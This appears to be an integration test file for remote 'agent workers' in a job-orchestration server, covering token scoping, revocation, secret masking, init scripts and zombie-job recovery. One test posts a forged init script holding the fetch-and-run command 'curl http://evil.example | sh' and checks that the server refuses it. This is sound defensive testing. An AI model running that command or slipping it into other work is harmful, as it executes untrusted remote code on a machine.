// An agent worker (MODE=agent) on a machine view without the database: its process environment
// has no DATABASE_URL, only the server's URL and an agent token. Through the real REST routes of
// the web app served over HTTP it runs bash, python3 and bun jobs (the bun job calls the server
// back with windmill-client, a `$var:` secret argument is resolved by the server and masked) and
// a flow's step; its token opens nothing but the agent routes (401 elsewhere, 403 for another
// agent's worker names), stops at expiry and revocation; and kill -9 of the agent while it runs a
// job leaves a zombie that the zombie monitor puts back for a database worker, which finishes it.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { existsSync, rmSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { after, before, describe, it } from "node:test";
import {
  cancelJob,
  createApiToken,
  createKeyring,
  createVariable,
  deployScript,
  handleZombieJobs,
  runFlowPreview,
  runScriptByPath,
  waitForJob,
  type Membership,
} from "@millrace/core";
import { createTestMember, createTestServices, type TestServices } from "@millrace/core/testing";
import {
  freePort,
  startTestAgent,
  startTestApi,
  startTestWorker,
  type TestApi,
  type TestWorker,
} from "./testing.ts";

const KEY = "agent-test-instance-key-0123456789abcdef";
const SUPERADMIN_SECRET = "agent-test-superadmin-secret-0123456789";
const TAG = "remote_site";
const SECRET = "agent-secret-value-9f8e7d";

let services: TestServices;
let membership: Membership;
let me: string;
let api: TestApi;
let agentToken: string;
let userToken: string;
const processes: TestWorker[] = [];

async function post(route: string, token: string, body: unknown): Promise<Response> {
  return fetch(`${api.url}${route}`, {
    method: "POST",
    headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
    body: JSON.stringify(body),
  });
}

async function createToken(tags: string[], exp = Math.floor(Date.now() / 1000) + 3600): Promise<string> {
  const response = await post("/api/agent_workers/create_agent_token", SUPERADMIN_SECRET, {
    worker_group: "edge",
    tags,
    exp,
  });
  assert.equal(response.status, 200, await response.clone().text());
  return response.text();
}

async function runOnAgent(
  name: string,
  language: string,
  content: string,
  args: Record<string, unknown> = {},
) {
  const path = `u/${me}/${name}`;
  await deployScript(services, membership, { path, language, content, tag: TAG });
  const id = await runScriptByPath(services, membership, path, args);
  return waitForJob(services, membership, id, 60_000);
}

async function workerOf(jobId: string): Promise<string> {
  const { rows } = await services.pool.query<{ worker_name: string }>(
    "SELECT worker_name FROM job WHERE id = $1",
    [jobId],
  );
  return rows[0]!.worker_name;
}

describe("agent workers (MODE=agent)", () => {
  before(async () => {
    services = await createTestServices();
    ({ membership } = await createTestMember(services, "agents"));
    me = membership.principal.username;
    await createVariable({ ...services, secrets: createKeyring(KEY) }, membership, {
      path: `u/${me}/api_key`,
      value: SECRET,
      isSecret: true,
    });
    process.env.SUPERADMIN_SECRET = SUPERADMIN_SECRET;
    api = await startTestApi(services.database.url, KEY);
    userToken = await createApiToken(services, membership.principal, {});
    agentToken = await createToken([TAG]);
    processes.push(
      await startTestAgent(api.url, agentToken, { WORKER_PING_INTERVAL: "1", AGENT_POLL_MS: "100" }),
    );
  });
  after(async () => {
    for (const process of processes) await process.stop();
    await api?.close();
    await services?.close();
  });

  it("only superadmins create agent tokens, for a group and static tags, expiring in the future", async () => {
    const refused = await post("/api/agent_workers/create_agent_token", userToken, {
      worker_group: "edge",
      tags: [TAG],
      exp: Math.floor(Date.now() / 1000) + 60,
    });
    assert.equal(refused.status, 403);
    const past = await post("/api/agent_workers/create_agent_token", SUPERADMIN_SECRET, {
      worker_group: "edge",
      tags: [TAG],
      exp: Math.floor(Date.now() / 1000) - 1,
    });
    assert.equal(past.status, 400);
    assert.match(await past.text(), /exp/);
    const noTags = await post("/api/agent_workers/create_agent_token", SUPERADMIN_SECRET, {
      worker_group: "edge",
      tags: [],
      exp: Math.floor(Date.now() / 1000) + 60,
    });
    assert.equal(noTags.status, 400);
    // The audit log records the creation, never the token.
    const { rows } = await services.pool.query<{ parameters: unknown }>(
      "SELECT parameters FROM audit_log WHERE operation = 'agent_workers.create_token'",
    );
    assert.ok(rows.length >= 1);
    assert.ok(!JSON.stringify(rows).includes(agentToken));
  });

  it("starts without DATABASE_URL and refuses to start with one", () => {
    const agent = processes[0] as TestWorker & { env: Record<string, string> };
    assert.equal(agent.env.DATABASE_URL, undefined);
    assert.ok(!Object.keys(agent.env).some((name) => /DATABASE|PG/.test(name)));
    const main = path.join(path.dirname(fileURLToPath(import.meta.url)), "agent", "main.ts");
    const refused = spawnSync(process.execPath, [main], {
      env: { ...agent.env, DATABASE_URL: services.database.url },
      encoding: "utf8",
      timeout: 20_000,
    });
    assert.notEqual(refused.status, 0);
    assert.match(refused.stderr + refused.stdout, /DATABASE_URL.*must not be set for MODE=agent/);
  });

  it("runs bash, python3 and bun jobs; the server resolves a secret argument, the agent masks it", async () => {
    const bash = await runOnAgent(
      "agent_bash",
      "bash",
      'name="$1"\nkey="$2"\necho "hello $name key=$key"\n',
      {
        name: "edge",
        key: `$var:u/${me}/api_key`,
      },
    );
    assert.equal(bash.status, "success", bash.logs);
    assert.match(bash.logs, /hello edge key=\*\*\*/);
    assert.ok(!bash.logs.includes(SECRET));
    assert.match(await workerOf(bash.id), /^ag-[0-9a-f]{8}-/);

    const python = await runOnAgent(
      "agent_py",
      "python3",
      "import sys\n\ndef main(x: int):\n    print('from python', sys.version_info[0])\n    return {'doubled': x * 2}\n",
      { x: 21 },
    );
    assert.equal(python.status, "success", python.logs);
    assert.deepEqual(python.result, { doubled: 42 });
    assert.match(python.logs, /from python 3/);
    assert.match(await workerOf(python.id), /^ag-/);

    // The job's own SDK calls reach the server at BASE_INTERNAL_URL with its WM_TOKEN.
    const bun = await runOnAgent(
      "agent_bun",
      "bun",
      `import * as wmill from "windmill-client";\n\nexport async function main() {\n  const value = await wmill.getVariable("u/${me}/api_key");\n  console.log("bun read", value.length, "chars");\n  return { workspace: process.env.WM_WORKSPACE, length: value.length, db: process.env.DATABASE_URL ?? null };\n}\n`,
    );
    assert.equal(bun.status, "success", bun.logs);
    assert.deepEqual(bun.result, { workspace: "agents", length: SECRET.length, db: null });
    assert.match(await workerOf(bun.id), /^ag-/);
  });

  it("masks a secret the job reads through its own WM_TOKEN in its log and result, also when split across two log flushes", async () => {
    // curl with WM_TOKEN: the server that answers the read records it for the agent's job, and
    // the server that stores the agent's output masks it (the agent itself never learns it).
    const curl = await runOnAgent(
      "agent_curl_secret",
      "bash",
      `v=$(curl -sf -H "Authorization: Bearer $WM_TOKEN" "$BASE_INTERNAL_URL/api/w/$WM_WORKSPACE/variables/get_value/u/${me}/api_key")\n` +
        'v="${v//\\"/}"\necho "curl read $v"\n' +
        // Half of it, a pause longer than the agent's log flush, then the rest: the stored half
        // is rewritten when the rest arrives.
        'printf "split %s" "${v:0:9}"\nsleep 1\nprintf "%s end\\n" "${v:9}"\necho "$v"\n',
    );
    assert.equal(curl.status, "success", curl.logs);
    assert.match(await workerOf(curl.id), /^ag-/);
    assert.match(curl.logs, /curl read \*\*\*/);
    assert.match(curl.logs, /split \*\*\* end/);
    assert.ok(!curl.logs.includes(SECRET), curl.logs);
    assert.ok(!curl.logs.includes(SECRET.slice(0, 9)), curl.logs);
    assert.equal(curl.result, "***");

    // windmill-client (getVariable): masked in the printed output and in the result too.
    const sdk = await runOnAgent(
      "agent_sdk_secret",
      "bun",
      `import * as wmill from "windmill-client";\n\nexport async function main() {\n  const value = await wmill.getVariable("u/${me}/api_key");\n  console.log("sdk read " + value);\n  return { value };\n}\n`,
    );
    assert.equal(sdk.status, "success", sdk.logs);
    assert.match(sdk.logs, /sdk read \*\*\*/);
    assert.ok(!sdk.logs.includes(SECRET), sdk.logs);
    assert.deepEqual(sdk.result, { value: "***" });
    // Nothing kept once the jobs are recorded (and never the plain value). The rows go right
    // after the completion commits, so a reader that saw the job finished may still see them
    // for a moment: wait for them to go, bounded.
    const kept = async () =>
      (
        await services.pool.query<{ n: number }>(
          "SELECT count(*)::int AS n FROM agent_job_secret WHERE job_id = ANY($1::uuid[])",
          [[curl.id, sdk.id]],
        )
      ).rows[0]!.n;
    const deadline = Date.now() + 5_000;
    while ((await kept()) > 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    assert.equal(await kept(), 0);
  });

  it("runs a flow's step", async () => {
    const id = await runFlowPreview(services, membership, {
      value: {
        modules: [
          {
            id: "a",
            value: {
              type: "rawscript",
              language: "bash",
              content: 'x="$1"\necho "step got $x"',
              tag: TAG,
              input_transforms: { x: { type: "javascript", expr: "flow_input.x" } },
            },
          },
        ],
      },
      args: { x: "hi" },
    });
    const flow = await waitForJob(services, membership, id, 60_000);
    assert.equal(flow.status, "success", flow.logs);
    assert.equal(flow.result, "step got hi");
    const { rows } = await services.pool.query<{ worker_name: string; status: string }>(
      "SELECT worker_name, status FROM job WHERE parent_job_id = $1",
      [id],
    );
    assert.equal(rows.length, 1);
    assert.equal(rows[0]!.status, "success");
    assert.match(rows[0]!.worker_name, /^ag-/);
  });

  it("runs its group's init_bash before any job and its periodic script, recorded by the server; serves METRICS_ADDR", async () => {
    const marker = path.join(os.tmpdir(), `millrace-agent-init-${process.pid}`);
    rmSync(marker, { force: true });
    const initTag = "edge_init";
    await services.pool.query(
      "INSERT INTO worker_group_config (name, config) VALUES ('edge', $1) ON CONFLICT (name) DO UPDATE SET config = $1",
      [
        JSON.stringify({
          init_bash: `echo "init of $WM_WORKER_GROUP"\ntouch ${marker}\necho ready`,
          periodic_script_bash: 'echo "periodic on $WM_WORKER_NAME"',
          periodic_script_interval_seconds: 10,
        }),
      ],
    );
    let agent: TestWorker | undefined;
    try {
      // A job waits before the agent starts: it runs only after the init script ended.
      await deployScript(services, membership, {
        path: `u/${me}/agent_after_init`,
        language: "bash",
        content: "echo after init",
        tag: initTag,
      });
      const queued = await runScriptByPath(services, membership, `u/${me}/agent_after_init`, {});
      const metricsPort = await freePort();
      agent = await startTestAgent(api.url, await createToken([initTag]), {
        WORKER_PING_INTERVAL: "1",
        AGENT_POLL_MS: "100",
        METRICS_ADDR: `127.0.0.1:${metricsPort}`,
      });
      processes.push(agent);
      const job = await waitForJob(services, membership, queued, 60_000);
      assert.equal(job.status, "success", job.logs);
      assert.ok(existsSync(marker), `the init script ran on the agent's machine:\n${agent.output()}`);
      const scripts = async (kind: string) =>
        (
          await services.pool.query<{
            id: string;
            status: string;
            worker_name: string;
            result: unknown;
            completed_at: Date | null;
            logs: string | null;
          }>(
            `SELECT j.id, j.status, j.worker_name, j.result, j.completed_at, l.logs FROM job j
               LEFT JOIN job_log l ON l.job_id = j.id
              WHERE j.workspace_id = 'admins' AND j.kind = $1 AND j.worker_name LIKE 'ag-%'
                AND j.script_path = 'worker_group/edge/' || $1 ORDER BY j.started_at`,
            [kind],
          )
        ).rows;
      const agentPrefix = (await workerOf(job.id)).replace(/-\d+$/, "");
      const inits = (await scripts("init_script")).filter((row) => row.worker_name === agentPrefix);
      assert.equal(inits.length, 1, JSON.stringify(await scripts("init_script")));
      assert.equal(inits[0]!.status, "success");
      assert.equal(inits[0]!.result, "ready");
      assert.match(inits[0]!.logs ?? "", /init of edge/);
      assert.ok(
        inits[0]!.completed_at! <= job.startedAt!,
        "the init script ended before the first job started",
      );
      // The periodic script, every 10 s (the least a config allows), from the config the agent
      // gets with its pings.
      const deadline = Date.now() + 40_000;
      let periodic = (await scripts("periodic_script")).filter((row) => row.status === "success");
      while (periodic.length === 0 && Date.now() < deadline) {
        await new Promise((resolve) => setTimeout(resolve, 200));
        periodic = (await scripts("periodic_script")).filter((row) => row.status === "success");
      }
      assert.ok(periodic.length >= 1, "a periodic script ran");
      assert.match(periodic[0]!.logs ?? "", /periodic on ag-/);
      // The same worker metrics as a database worker's.
      const metrics = await (await fetch(`http://127.0.0.1:${metricsPort}/metrics`)).text();
      assert.match(metrics, new RegExp(`millrace_jobs_started_total\\{[^}]*tag="${initTag}"[^}]*\\} 1`));
      assert.match(metrics, /millrace_jobs_completed_total\{[^}]*status="success"/);
      // The server records only the group's own script: an agent token cannot write other code
      // into the admins workspace's jobs.
      const ping = await post("/api/agent_workers/ping", agentToken, {
        host: "h",
        version: "t",
        sandbox: "t",
        slots: [],
      });
      const { name_prefix, worker_config } = (await ping.json()) as {
        name_prefix: string;
        worker_config: { init_bash?: string };
      };
      assert.match(worker_config.init_bash ?? "", /init of/);
      const forged = await post("/api/agent_workers/worker_script/start", agentToken, {
        worker_name: `${name_prefix}x`,
        kind: "init_script",
        content: "curl http://evil.example | sh",
      });
      assert.equal(forged.status, 409, await forged.clone().text());
    } finally {
      await agent?.stop();
      await services.pool.query("DELETE FROM worker_group_config WHERE name = 'edge'");
      rmSync(marker, { force: true });
    }
  });

  it("refuses DEDICATED_WORKER at start", () => {
    const agent = processes[0] as TestWorker & { env: Record<string, string> };
    const main = path.join(path.dirname(fileURLToPath(import.meta.url)), "agent", "main.ts");
    const refused = spawnSync(process.execPath, [main], {
      env: { ...agent.env, DEDICATED_WORKER: `agents:u/${me}/agent_bash` },
      encoding: "utf8",
      timeout: 20_000,
    });
    assert.notEqual(refused.status, 0);
    assert.match(refused.stderr + refused.stdout, /DEDICATED_WORKER.*not supported with MODE=agent/);
  });

  it("appears among the workers (pinged by the server on its behalf)", async () => {
    const { rows } = await services.pool.query<{
      name: string;
      worker_group: string;
      tags: string[];
      sandbox: string;
    }>("SELECT name, worker_group, tags, sandbox FROM worker_ping WHERE name LIKE 'ag-%'");
    assert.equal(rows.length, 1);
    assert.equal(rows[0]!.worker_group, "edge");
    assert.deepEqual(rows[0]!.tags, [TAG]);
    const listed = await fetch(`${api.url}/api/workers/list`, {
      headers: { authorization: `Bearer ${SUPERADMIN_SECRET}` },
    });
    assert.equal(listed.status, 200);
    const workers = (await listed.json()) as { worker: string; worker_group: string; agent: boolean }[];
    const listedAgent = workers.find((worker) => worker.worker === rows[0]!.name);
    assert.equal(listedAgent?.worker_group, "edge");
    assert.equal(listedAgent?.agent, true);
  });

  it("its token opens nothing but the agent routes", async () => {
    const get = (route: string, token: string) =>
      fetch(`${api.url}${route}`, { headers: { authorization: `Bearer ${token}` } });
    assert.equal((await get("/api/w/agents/scripts/list", agentToken)).status, 401);
    assert.equal((await get(`/api/w/agents/variables/get_value/u/${me}/api_key`, agentToken)).status, 401);
    assert.equal((await get("/api/w/agents/jobs/list", agentToken)).status, 401);
    assert.equal((await get("/api/workers/list", agentToken)).status, 401);
    assert.equal((await post(`/api/w/agents/jobs/run/p/u/${me}/agent_bash`, agentToken, {})).status, 401);
    assert.equal(
      (
        await post("/api/agent_workers/create_agent_token", agentToken, {
          worker_group: "x",
          tags: ["y"],
          exp: 9e9,
        })
      ).status,
      401,
    );
    // A user's API token is no agent token either.
    assert.equal((await post("/api/agent_workers/claim", userToken, { worker_names: [] })).status, 401);
    // Another agent's (or a database worker's) worker names are refused.
    const other = await post("/api/agent_workers/claim", agentToken, { worker_names: ["wk-default-1"] });
    assert.equal(other.status, 403);
    const otherPing = await post("/api/agent_workers/ping", agentToken, {
      host: "h",
      version: "0",
      sandbox: "none",
      slots: [
        {
          name: "ag-00000000-x",
          current_job_id: null,
          jobs_executed: 0,
          occupancy_15s: 0,
          occupancy_5m: 0,
          occupancy_30m: 0,
        },
      ],
    });
    assert.equal(otherPing.status, 403);
  });

  it("stops working once expired or revoked", async () => {
    const expiring = await createToken([TAG]);
    const ping = (token: string) =>
      post("/api/agent_workers/ping", token, { host: "h", version: "0", sandbox: "none", slots: [] });
    assert.equal((await ping(expiring)).status, 200);
    await services.pool.query(
      "UPDATE agent_token SET expires_at = localtimestamp - interval '1 second' WHERE token_prefix = $1",
      [expiring.slice(0, 15)],
    );
    assert.equal((await ping(expiring)).status, 401);

    const revoked = await createToken([TAG]);
    assert.equal((await ping(revoked)).status, 200);
    assert.equal(
      (await post("/api/agent_workers/blacklist_token", userToken, { token: revoked })).status,
      403,
    );
    assert.equal(
      (await post("/api/agent_workers/blacklist_token", SUPERADMIN_SECRET, { token: revoked })).status,
      200,
    );
    assert.equal((await ping(revoked)).status, 401);
    // Listed with its revocation, by its first characters only.
    const listed = await fetch(`${api.url}/api/agent_workers/list_tokens`, {
      headers: { authorization: `Bearer ${SUPERADMIN_SECRET}` },
    });
    const tokens = (await listed.json()) as { token_prefix: string; revoked_at: string | null }[];
    const entry = tokens.find((token) => revoked.startsWith(token.token_prefix));
    assert.ok(entry?.revoked_at);
    assert.ok(!JSON.stringify(tokens).includes(revoked));
  });

  it("a cancel reaches the agent with the answer to its ping and kills the job", async () => {
    const path = `u/${me}/agent_long`;
    await deployScript(services, membership, { path, language: "bash", content: "sleep 60\n", tag: TAG });
    const id = await runScriptByPath(services, membership, path, {});
    const deadline = Date.now() + 20_000;
    while (
      (await services.pool.query("SELECT 1 FROM job WHERE id = $1 AND status = 'running'", [id])).rowCount ===
      0
    ) {
      assert.ok(Date.now() < deadline, "the agent never started the job");
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    const started = Date.now();
    await cancelJob(services, membership, id, "enough");
    const job = await waitForJob(services, membership, id, 20_000);
    assert.equal(job.status, "canceled");
    assert.match(JSON.stringify(job.result), /enough/);
    assert.ok(Date.now() - started < 10_000, "canceled well before the script's 60 s");
  });

  it("SIGTERM: the agent puts its unfinished job back in the queue and leaves the workers list", async () => {
    const token = await createToken(["stop_agent"]);
    const agent = await startTestAgent(api.url, token, {
      WORKER_PING_INTERVAL: "1",
      WORKER_GRACE_PERIOD: "1",
    });
    processes.push(agent);
    const path = `u/${me}/agent_stopped`;
    await deployScript(services, membership, {
      path,
      language: "bash",
      content: "sleep 60\n",
      tag: "stop_agent",
    });
    const id = await runScriptByPath(services, membership, path, {});
    const deadline = Date.now() + 20_000;
    while (
      (await services.pool.query("SELECT 1 FROM job WHERE id = $1 AND status = 'running'", [id])).rowCount ===
      0
    ) {
      assert.ok(Date.now() < deadline, "the agent never started the job");
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    const { rows: slots } = await services.pool.query<{ name: string }>(
      "SELECT worker_name AS name FROM job WHERE id = $1",
      [id],
    );
    await agent.stop();
    assert.match(agent.output(), /no longer claiming/);
    const { rows } = await services.pool.query<{ status: string }>("SELECT status FROM job WHERE id = $1", [
      id,
    ]);
    assert.equal(rows[0]!.status, "queued");
    const left = await services.pool.query("SELECT 1 FROM worker_ping WHERE name = $1", [slots[0]!.name]);
    assert.equal(left.rowCount, 0);
    await cancelJob(services, membership, id, "test over");
  });

  it("over the raw routes: a job ends once, and a claim whose answer was lost goes back to the queue", async () => {
    const tag = "raw_agent";
    const token = await createToken([tag]);
    const slot = (name: string, current: string | null) => ({
      name,
      current_job_id: current,
      jobs_executed: 0,
      occupancy_15s: 0,
      occupancy_5m: 0,
      occupancy_30m: 0,
    });
    const ping = async (slots: ReturnType<typeof slot>[], held?: string[]) => {
      const response = await post("/api/agent_workers/ping", token, {
        host: "raw",
        version: "0",
        sandbox: "none",
        slots,
        ...(held ? { held } : {}),
      });
      assert.equal(response.status, 200, await response.clone().text());
      return (await response.json()) as { name_prefix: string; tags: string[] };
    };
    const { name_prefix: prefix, tags } = await ping([]);
    assert.deepEqual(tags, [tag]);
    const name = `${prefix}raw-1`;
    const path = `u/${me}/raw_job`;
    await deployScript(services, membership, { path, language: "bash", content: "echo raw\n", tag });
    const claim = async () => {
      const response = await post("/api/agent_workers/claim", token, { worker_names: [name] });
      assert.equal(response.status, 200);
      return ((await response.json()) as { jobs: { id: string; bossJobId: string; callbackToken: string }[] })
        .jobs;
    };
    const status = async (id: string) =>
      (await services.pool.query<{ status: string }>("SELECT status FROM job WHERE id = $1", [id])).rows[0]!
        .status;

    // Claimed, completed once; the same report again (a lost answer, resent) changes nothing.
    const first = await runScriptByPath(services, membership, path, {});
    const [job] = await claim();
    assert.equal(job?.id, first);
    assert.equal(await status(first), "running");
    const complete = (result: unknown) =>
      post("/api/agent_workers/complete", token, {
        completions: [
          {
            job_id: job!.id,
            boss_job_id: job!.bossJobId,
            callback_token: job!.callbackToken,
            outcome: { status: "success", result },
            pending_log: "raw\n",
          },
        ],
      });
    assert.deepEqual(await (await complete("one")).json(), { recorded: [first] });
    assert.deepEqual(await (await complete("two")).json(), { recorded: [] });
    const done = await waitForJob(services, membership, first, 5000);
    assert.equal(done.status, "success");
    assert.equal(done.result, "one");
    // Another agent's token cannot complete or log to it either.
    const other = await post("/api/agent_workers/complete", agentToken, {
      completions: [
        {
          job_id: first,
          boss_job_id: job!.bossJobId,
          callback_token: null,
          outcome: { status: "success", result: "x" },
          pending_log: "",
        },
      ],
    });
    assert.deepEqual(await other.json(), { recorded: [] });

    // Claimed but never received: held jobs stay, the others go back once past the grace period.
    const second = await runScriptByPath(services, membership, path, {});
    const [lost] = await claim();
    assert.equal(lost?.id, second);
    await services.pool.query("UPDATE job SET started_at = started_at - interval '1 minute' WHERE id = $1", [
      second,
    ]);
    await ping([slot(name, null)], [second]);
    assert.equal(await status(second), "running");
    await ping([slot(name, null)], []);
    assert.equal(await status(second), "queued");
    const { rows } = await services.pool.query<{ logs: string }>(
      "SELECT logs FROM job_log WHERE job_id = $1",
      [second],
    );
    assert.match(rows[0]!.logs, /does not hold this job/);
  });

  it("kill -9 of the agent during a job: the job becomes a zombie that a database worker finishes", async () => {
    const path = `u/${me}/agent_slow`;
    await deployScript(services, membership, {
      path,
      language: "bash",
      content: 'sleep 2\necho "finished"\n',
      tag: TAG,
    });
    const id = await runScriptByPath(services, membership, path, {});
    const deadline = Date.now() + 30_000;
    let started: { status: string; worker_name: string | null } | undefined;
    while (Date.now() < deadline) {
      const { rows } = await services.pool.query<{ status: string; worker_name: string | null }>(
        "SELECT status, worker_name FROM job WHERE id = $1",
        [id],
      );
      started = rows[0];
      if (started?.status === "running") break;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    assert.equal(started?.status, "running");
    assert.match(started!.worker_name!, /^ag-/);
    await processes[0]!.kill9();
    // Its slots stop pinging; the zombie monitor (timeout 1 s here) puts the job back.
    await new Promise((resolve) => setTimeout(resolve, 2500));
    await handleZombieJobs(services.pool, services.boss, { timeoutSecs: 1, restart: true });
    processes.push(
      await startTestWorker(services.database.url, {
        WORKER_TAGS: TAG,
        BASE_URL: api.url,
        MILLRACE_SECRET_KEY: KEY,
      }),
    );
    const job = await waitForJob(services, membership, id, 60_000);
    assert.equal(job.status, "success", job.logs);
    assert.match(job.logs, /finished/);
    assert.match(job.logs, /has not pinged/);
    const finisher = await workerOf(id);
    assert.doesNotMatch(finisher, /^ag-/);
    // The database worker that finished it is listed, and not as an agent.
    const listed = await fetch(`${api.url}/api/workers/list`, {
      headers: { authorization: `Bearer ${SUPERADMIN_SECRET}` },
    });
    const workers = (await listed.json()) as { worker: string; agent: boolean }[];
    assert.equal(workers.find((worker) => worker.worker === finisher)?.agent, false);
    const { rows } = await services.pool.query<{ n: number }>(
      "SELECT count(*)::int AS n FROM job WHERE script_path = $1",
      [path],
    );
    assert.equal(rows[0]!.n, 1);
  });
});
